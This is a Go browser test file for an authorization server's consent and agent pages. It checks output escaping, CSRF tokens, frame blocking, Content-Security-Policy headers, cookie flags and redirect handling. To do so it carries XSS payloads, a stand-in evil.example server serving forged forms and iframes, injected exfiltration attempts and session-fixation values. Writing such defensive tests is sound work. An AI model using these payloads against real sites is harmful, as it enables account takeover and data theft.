//go:build browser

package main_test

import (
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"slices"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/chromedp/cdproto/network"

	"github.com/remit-auth/remit/cmd/remit/blackbox"
)

// TestBrowserPages plays what of sections 4.13 and 4.14 of the catalogue a browser decides.
func TestBrowserPages(t *testing.T) {
	t.Parallel()
	s := newStage(t)
	for _, look := range twoLooks {
		t.Run(look.String(), func(t *testing.T) {
			for id, play := range map[string]func(*journey){
				"CS2": inertText, "CS5": ownForms, "CS5 other sites": foreignForms, "CS6": noFrames, "CS7": policyHolds, "LG1 LG2 LG8": ownCookie, "LG5": returnsHere,
			} {
				t.Run(id, func(t *testing.T) { play(s.journey(t, look)) })
			}
		})
	}
}

// evilText is text of strangers that would like to be more.
const evilText = `"'></p></title><script>pwned=1</script><img src=x onerror=pwned=2><style>main{display:none}</style><iframe src=//evil.example> javascript:pwned=3`

// inertText: names, purpose and tool texts of strangers are shown as what they are, and nothing of
// them is obeyed; the policy has nothing to stop (a journey fails when a page complains).
func inertText(j *journey) {
	tool := map[string]any{
		"name": "look", "title": "Look " + evilText, "description": "See " + evilText + " \u202e\u200b\u001b[31m", "annotations": map[string]any{"readOnlyHint": true},
		"inputSchema": map[string]any{"type": "object", "properties": map[string]any{"project": map[string]any{"type": "string", "description": evilText}}},
	}
	uri := "http://127.0.0.1:1/" + blackbox.Random(6)
	file, err := json.Marshal(map[string]any{
		"uri": uri, "name": "Files " + evilText[:80], "tools": []any{tool},
		"policy": "version: 1\nscopes: {look: {title: Look, roles: [reader]}}\nroles: {reader: {tools: {look: {}}}}\n",
	})
	if err != nil {
		j.Fatal(err)
	}
	j.s.remit(j.T, nil, string(file), "resource", "add", "-")
	j.s.remit(j.T, nil, "", "user", "assign", "--email", j.f.Person.Email, "--resource", uri, "--role", "reader")
	j.f.ClientID = j.s.client(j.T, "Mal "+evilText[:90], map[string]any{"token_endpoint_auth_method": "none", "redirect_uris": []string{redirectA}})
	j.f.Resource = uri
	details, err := json.Marshal([]any{
		blackbox.Object{"type": "mcp_task", "purpose": evilText[:138]},
		blackbox.Object{"type": "mcp_tool", "locations": []string{uri}, "tool": "look"},
	})
	if err != nil {
		j.Fatal(err)
	}
	j.f.Details = string(details)
	inert := func(shown ...string) {
		j.Helper()
		j.Shows(shown...)
		if is := j.Read(`String(window.pwned)`); is != "undefined" {
			j.Errorf("a stranger's text ran: %s", is)
		}
		if made := j.Values(`img, iframe, style, script:not([src^="/static/agents-"], [src^="/static/consent-"], [src^="/static/push-"]), [onerror], [style], a[href^=javascript i]`, "outerHTML"); len(made) > 0 {
			j.Errorf("a stranger's text made %q", made)
		}
		if strings.ContainsAny(j.Text(), "\u202e\u200b\u001b") {
			j.Errorf("what cannot be seen came through: %q", j.Text())
		}
		j.Accessible()
	}
	j.opens()
	inert("Mal")
	j.signsIn()
	inert("Mal "+evilText[:20], "Files "+evilText[:20], "Look "+evilText[:20], "See "+evilText[:60], "“"+evilText[:40])
	j.Click(tick("look"))
	j.allows("look")
	j.Open(j.s.issuer + "/agents")
	inert(evilText[:40])
}

// ownForms: a form counts for the session and the request that it was made for.
func ownForms(j *journey) {
	j.asks()
	second := j.also(j.Another())
	second.opens()
	stranger := j.s.journey(j.T, j.Look)
	stranger.asks()
	for name, spoil := range map[string]func(){
		"no token":                   func() { j.Read(`document.querySelector("form.consent [name=csrf]").remove(), ""`) },
		"another session's token":    func() { j.fills("csrf", stranger.hidden("csrf")) },
		"another request":            func() { j.fills("request", second.hidden("request")) },
		"another request's mark":     func() { j.fills("shown", second.hidden("shown")) },
		"another offer":              func() { j.fills("offer", stranger.hidden("offer")+"0") },
		"another session's own page": func() { j.fills("csrf", stranger.hidden("csrf")); j.fills("shown", stranger.hidden("shown")) },
	} {
		j.Open(j.f.AuthorizeURL())
		spoil()
		if got := j.Press(allowButton); got.Status != http.StatusForbidden {
			j.Errorf("%s: %d %s", name, got.Status, j.Text())
		}
		j.stays(http.StatusForbidden, "this form was made for another session")
	}
	if got := j.Open(j.s.issuer + "/consent?decision=allow&request=" + j.f.RequestURI); got.Status != http.StatusMethodNotAllowed {
		j.Errorf("GET: %d", got.Status)
	}
	j.Open(j.f.AuthorizeURL())
	j.allows(preset...)
	second.allows(preset...)
}

// foreignForms: what another site's forms send is nobody's, even with all the right values in it.
func foreignForms(j *journey) {
	j.asks()
	fields := ""
	for _, name := range []string{"csrf", "request", "client_id", "offer", "shown"} {
		fields += fmt.Sprintf(`<input type=hidden name=%s value="%s">`, name, html.EscapeString(j.hidden(name)))
	}
	fields += `<input type=hidden name=tool value=delete_ticket><input type=hidden name=duration value=1800>`
	path := "/" + blackbox.Random(6)
	j.s.evil.HandleFunc(path, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!DOCTYPE html><title>Win</title><form method=post action="%s%s">%s<button name=%s value=%s>Win</button></form>`,
			j.s.issuer, r.FormValue("to"), fields, r.FormValue("name"), r.FormValue("value"))
	})
	tab := &journey{T: j.T, Tab: j.Another(), s: j.s, f: j.f}
	for _, form := range []string{"to=/consent&name=decision&value=allow", "to=/consent&name=decision&value=deny", "to=/agents&name=action&value=end_all", "to=/signout&name=x&value=y"} {
		tab.Open(evilSite + path + "?" + form)
		tab.Press("button")
		tab.stays(http.StatusForbidden, "this form was made for another session")
	}
	j.allows(preset...)
	j.s.works(j.T, j.f)
}

// noFrames: no page can be drawn inside another site's, whoever is signed in.
func noFrames(j *journey) {
	j.asks()
	pages := []string{j.f.AuthorizeURL(), j.s.issuer + "/agents", j.s.issuer + "/authorize?client_id=nobody"}
	path := "/" + blackbox.Random(6)
	j.s.evil.HandleFunc(path, func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<!DOCTYPE html><title>Win</title><iframe src="%s/own"></iframe>`, path)
		for _, page := range pages {
			fmt.Fprintf(w, `<iframe src="%s"></iframe>`, html.EscapeString(page))
		}
	})
	j.s.evil.HandleFunc(path+"/own", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, "Win") })
	tab := j.Another()
	tab.Open(evilSite + path)
	tab.Complaints("frame-ancestors 'none'")
	drawn := tab.Frames()
	want := []string{evilSite + path + "/own"}
	if !slices.Equal(drawn, want) {
		j.Errorf("frames drawn: %q, want %q", drawn, want)
	}
	j.allows(preset...)
}

// policyHolds: the pages say what browsers need to be told, and what got into a page in spite of all
// would be stopped there.
func policyHolds(j *journey) {
	j.asks()
	for _, page := range []string{j.f.AuthorizeURL(), j.s.issuer + "/agents", j.s.issuer + "/authorize?client_id=nobody"} {
		j.told(page)
	}
	var stolen atomic.Int32
	path := "/" + blackbox.Random(6)
	j.s.evil.HandleFunc(path, func(http.ResponseWriter, *http.Request) { stolen.Add(1) })
	j.Open(j.f.AuthorizeURL())
	j.Read(fmt.Sprintf(`(address => {
		document.body.insertAdjacentHTML("beforeend", "<img src=" + address + " onerror='window.pwned = 1'><style>main { display: none }</style><p style='color: red' id=red>red</p>")
		for (const tag of ["script", "iframe"]) document.body.append(Object.assign(document.createElement(tag), {src: address}))
		document.body.append(Object.assign(document.createElement("script"), {textContent: "window.pwned = 2"}))
		document.body.append(Object.assign(document.createElement("link"), {rel: "stylesheet", href: address}))
		return ""
	})(%q)`, evilSite+path))
	stopped := []string{"img-src", "style-src", "frame-src"}
	if !j.Look.NoScript {
		stopped = append(stopped, "script-src")
	}
	j.Shows("What it may do")
	j.Complaints(stopped...)
	j.Read(fmt.Sprintf(`document.querySelector("form.consent").action = %q`, evilSite+path))
	j.Click(allowButton)
	j.Complaints("form-action")
	if ran := j.Read(`String(window.pwned) + " " + getComputedStyle(document.querySelector("#red")).color.replace("rgb(255, 0, 0)", "red")`); !strings.HasPrefix(ran, "undefined ") || strings.HasSuffix(ran, "red") {
		j.Errorf("in the page: %s", ran)
	}
	if n := stolen.Load(); n != 0 {
		j.Errorf("the other site was reached %d times", n)
	}
	j.Open(j.f.AuthorizeURL())
	j.allows(preset...)
}

// told checks the headers of a page.
func (j *journey) told(page string) {
	j.Helper()
	got := j.Open(page)
	header := http.Header{}
	for name, value := range got.Headers {
		header.Set(name, fmt.Sprint(value))
	}
	policy := header.Get("Content-Security-Policy")
	for _, directive := range []string{"default-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'self'"} {
		if !strings.Contains(policy, directive) {
			j.Errorf("%s: policy %q lacks %s", page, policy, directive)
		}
	}
	if strings.Contains(policy, "unsafe") || strings.Contains(policy, "*") {
		j.Errorf("%s: policy %q", page, policy)
	}
	for name, want := range map[string]string{
		"X-Frame-Options": "DENY", "Referrer-Policy": "no-referrer", "Cache-Control": "no-store", "Cross-Origin-Opener-Policy": "same-origin", "X-Content-Type-Options": "nosniff",
	} {
		if header.Get(name) != want {
			j.Errorf("%s: %s: %q, want %q", page, name, header.Get(name), want)
		}
	}
}

// sessionCookie is the name of the cookie of a server in development mode.
const sessionCookie = "remit_session"

// ownCookie: scripts and other sites have nothing of the session; it is another after each sign-in,
// and none after signing out.
func ownCookie(j *journey) {
	j.opens()
	j.SetCookie(j.s.issuer, sessionCookie, "fixed-by-somebody")
	seen := map[string]bool{"fixed-by-somebody": true}
	for range 2 {
		j.Open(j.f.AuthorizeURL())
		j.signsIn()
		c := j.session()
		if c == nil || seen[c.Value] {
			j.Fatalf("session cookie %+v", c)
		}
		seen[c.Value] = true
		if got := j.Read(`document.cookie`); got != "" {
			j.Errorf("scripts see %q", got)
		}
		j.Open(j.s.issuer + "/agents")
		j.Press(".account button")
		j.Shows("Sign in", "Password")
		if left := j.session(); left != nil {
			j.Errorf("after signing out: %+v", left)
		}
		j.SetCookie(j.s.issuer, sessionCookie, c.Value)
		j.Open(j.s.issuer + "/agents")
		j.Shows("Sign in", "Password") // the server has forgotten it too
		j.f.RequestURI = ""            // it was opened in a session that is over
		must(j.T, j.f, (*blackbox.Flow).Push)
	}
}

// session is the cookie of the session, once all cookies are seen to be as they should (LG1).
func (j *journey) session() (session *network.Cookie) {
	j.Helper()
	for _, c := range j.Cookies() {
		if !c.HTTPOnly || c.SameSite != network.CookieSameSiteLax || c.Path != "/" || strings.HasPrefix(c.Domain, ".") {
			j.Errorf("cookie %+v", c)
		}
		if c.Name == sessionCookie {
			session = c
		}
	}
	return session
}

// returnsHere: signing in leads to our own pages, whatever the form was made to say.
func returnsHere(j *journey) {
	for _, to := range []string{"//evil.example", `/\evil.example`, "javascript:alert(1)"} {
		tab := &journey{T: j.T, Tab: j.s.Person(j.T, j.Look), s: j.s, f: j.f}
		tab.Open(j.s.issuer + "/agents")
		tab.Read(fmt.Sprintf(`document.querySelector("[name=return_to]").value = %q`, to))
		tab.signsIn()
		if at := tab.Address(); at != j.s.issuer+"/agents" {
			j.Errorf("%q led to %s", to, at)
		}
	}
	j.asks()
	j.allows(preset...)
}
